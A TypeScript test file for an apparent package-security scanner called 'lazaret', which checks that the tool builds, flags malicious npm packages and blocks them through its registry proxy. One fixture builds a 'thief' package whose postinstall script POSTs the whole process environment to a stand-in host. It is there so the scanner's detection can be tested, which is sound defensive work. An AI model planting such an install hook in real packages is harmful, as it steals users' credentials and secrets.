import { execFile, type ExecFileException } from 'node:child_process'
import { cpSync, existsSync, globSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join, relative, resolve } from 'node:path'
import { pathToFileURL } from 'node:url'
import t from 'tap'
import { sourceRevision } from '../../src/inspection/revision.ts'
import { ask } from '../e2e/ask.ts'
import { startLazaret } from '../e2e/lazaret.ts'
import { npmTarball, wheel } from '../registry/build.ts'
import { attackPackages, ordinaryPackages, stock } from '../registry/packages.ts'
import { startWorld } from '../registry/registry.ts'

const folder = t.testdir({ home: {} })
const DIST = join(folder, 'dist')
const BIN = join(folder, 'bin/lazaret.js')

/** What a process of Node says until it ends, in an environment without anything of the machine's. */
function node(args: readonly string[]): Promise<{ code: ExecFileException['code']; stdout: string; stderr: string }> {
  const env = { PATH: process.env['PATH'] ?? '', HOME: join(folder, 'home') }
  return new Promise((done) => {
    execFile(process.execPath, [...args], { env, maxBuffer: 2 ** 26 }, (error, stdout, stderr) =>
      done({ code: error === null ? 0 : error.code, stdout, stderr }),
    )
  })
}

// As `npm run build` does it, in a folder that is laid out as the package is.
for (const part of ['package.json', 'bin', 'policies']) cpSync(part, join(folder, part), { recursive: true })
symlinkSync(resolve('node_modules'), join(folder, 'node_modules'))
const vite = join('node_modules', 'vite', 'bin', 'vite.js')
const built = await node([vite, 'build', '--config', 'vite.node.config.ts', '--logLevel', 'warn', '--outDir', DIST])
t.same(built, { code: 0, stdout: '', stderr: '' }, 'it builds without a word')
writeFileSync(join(DIST, 'inspection/revision.txt'), sourceRevision())

t.test('what is started by its file name is there', async (t) => {
  const started = [...globSync('src/**/worker.ts'), 'src/inspection/watch.ts', 'src/sandbox/supervisor.ts']
  t.ok(started.length > 7, `${started.length} files`)
  for (const file of started) t.ok(existsSync(join(DIST, relative('src', file).replace(/ts$/, 'js'))), file)
})

t.test('version and help', async (t) => {
  const { version } = JSON.parse(readFileSync('package.json', 'utf8')) as { version: string }
  t.equal((await node([BIN, '--version'])).stdout, `${version}\n`)
  t.match((await node([BIN, 'check', '--help'])).stdout, /^Usage: lazaret check /)
})

const thief = npmTarball({
  name: 'thief',
  version: '1.0.0',
  manifest: { scripts: { postinstall: 'node i.js' } },
  files: { 'i.js': 'fetch("https://x.invalid/", { method: "POST", body: JSON.stringify(process.env) })\n' },
})
const plain = npmTarball({ name: 'plain', version: '1.0.0' })
const python = wheel({ name: 'plain', version: '1.0.0' })

t.test('check says of an ordinary package, one that steals and a wheel what the sources say', async (t) => {
  const files = [plain, thief, python].map(({ filename, bytes }) => {
    writeFileSync(join(folder, filename), bytes)
    return join(folder, filename)
  })
  const said = await Promise.all([BIN, 'src/main.ts'].map((main) => node([main, 'check', '--json', ...files])))
  t.same(
    said.map(({ code }) => code),
    [1, 1],
  )
  const [ours, theirs] = said.map(({ stdout }) =>
    stdout.replaceAll(/"tookMs": [\d.]+/g, '').replaceAll(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, ''),
  )
  t.match(ours, /"findings"[^]*secrets-exfiltration/)
  t.equal(ours, theirs)
})

t.test('check of a small npm file loads few files, and no database, web server or parser of code', async (t) => {
  const file = join(folder, plain.filename)
  writeFileSync(file, plain.bytes)
  const hook = join(folder, 'told.mjs')
  writeFileSync(
    hook,
    `import { registerHooks } from 'node:module'
registerHooks({ load: (url, context, next) => (process.stderr.write('loads ' + url + '\\n'), next(url, context)) })`,
  )
  const { code, stderr } = await node(['--import', pathToFileURL(hook).href, BIN, 'check', file])
  t.equal(code, 0)
  const loaded = [...stderr.matchAll(/^loads file:(.*)$/gm)].map(([, path = '']) => path)
  const own = loaded.filter((path) => path.includes('/dist/') && !path.includes('/node_modules/'))
  t.ok(own.length > 5, 'it is seen')
  t.ok(own.length < 60, own.join(' '))
  const packages = new Set(loaded.flatMap((path) => /.*\/node_modules\/((?:@[^/]+\/)?[^/]+)/.exec(path)?.[1] ?? []))
  t.ok(packages.has('commander') && packages.has('yaml'), 'they are seen')
  for (const heavy of ['better-sqlite3', 'kysely', 'fastify', 'undici', 'pg', 'oxc-parser', 'meriyah'])
    t.notOk(packages.has(heavy), heavy)
})

t.test('it serves, inspects, refuses and tells', async (t) => {
  const world = await startWorld()
  stock(world, ordinaryPackages(), attackPackages())
  const lazaret = await startLazaret({ world, dataDir: join(folder, 'data'), main: BIN })
  t.teardown(async () => {
    await lazaret.stop()
    await world.close()
  })
  t.equal((await ask('GET', `${lazaret.url}/readyz`, {})).status, 200)
  const document = await ask('GET', `${lazaret.npmUrl}plain-pad`, {})
  t.match(JSON.parse(document.body.toString()), { name: 'plain-pad' })
  t.equal((await ask('GET', `${lazaret.npmUrl}plain-pad/-/plain-pad-1.0.0.tgz`, {})).status, 200)
  t.equal((await ask('GET', `${lazaret.npmUrl}steal~env/-/steal~env-1.0.0.tgz`, {})).status, 403)
})
